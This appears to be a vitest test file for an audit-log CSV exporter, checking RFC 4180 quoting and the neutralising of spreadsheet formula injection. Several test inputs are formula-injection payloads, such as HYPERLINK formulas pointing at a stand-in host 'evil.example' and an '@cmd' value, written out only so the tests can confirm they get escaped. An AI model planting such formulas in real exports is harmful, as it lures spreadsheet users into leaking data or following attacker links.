import { describe, expect, it } from 'vitest';
import { csvField, csvRow } from './audit-export.controller.js';

describe('audit CSV export', () => {
  it('quotes fields with commas, quotes or line breaks (RFC 4180) and writes details as canonical JSON', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField(null)).toBe('');
    expect(csvField(42)).toBe('42');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"\nbye')).toBe('"say ""hi""\nbye"');
    expect(csvField({ b: 1, a: 'x' })).toBe('"{""a"":""x"",""b"":1}"');
  });

  it('prefixes a cell that a spreadsheet would read as a formula with a quote, then quotes it as RFC 4180 says', () => {
    expect(csvField('=HYPERLINK("https://evil.example/?x","click")')).toBe('"\'=HYPERLINK(""https://evil.example/?x"",""click"")"');
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('+41 79 000')).toBe("'+41 79 000");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\t=1')).toBe("'\t=1");
    expect(csvField('\r=1')).toBe('"\'\r=1"');
    // Only a leading character counts; JSON details start with `{`.
    expect(csvField('a=1')).toBe('a=1');
    expect(csvField({ label: '=HYPERLINK("x")' })).toBe('"{""label"":""=HYPERLINK(\\""x\\"")""}"');
  });

  it('neutralizes a formula in any column of a row, user text and details alike', () => {
    const row = csvRow({
      seq: 8,
      id: '00000000-0000-4000-8000-000000000008',
      occurredAt: '2026-01-01T00:00:00.000Z',
      actor: { kind: 'agent', id: '=HYPERLINK("https://evil.example","x")' },
      action: 'grant.request_refused',
      outcome: 'failure',
      keyId: null,
      requestId: null,
      attemptId: null,
      nodeId: null,
      details: { reason: '@cmd' },
      prevHash: '0'.repeat(64),
      hash: 'f'.repeat(64),
    });
    const cells = row.trimEnd().split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/);
    expect(cells[4]).toBe('"\'=HYPERLINK(""https://evil.example"",""x"")"');
    for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('writes one CRLF-terminated row in the header order', () => {
    const row = csvRow({
      seq: 7,
      id: '00000000-0000-4000-8000-000000000007',
      occurredAt: '2026-01-01T00:00:00.000Z',
      actor: { kind: 'admin', id: 'admin-token' },
      action: 'key.registered',
      outcome: 'success',
      keyId: null,
      requestId: null,
      attemptId: null,
      nodeId: null,
      details: {},
      prevHash: '0'.repeat(64),
      hash: 'f'.repeat(64),
    });
    expect(row).toBe(
      `7,00000000-0000-4000-8000-000000000007,2026-01-01T00:00:00.000Z,admin,admin-token,key.registered,success,,,,,{},${'0'.repeat(64)},${'f'.repeat(64)}\r\n`,
    );
  });
});
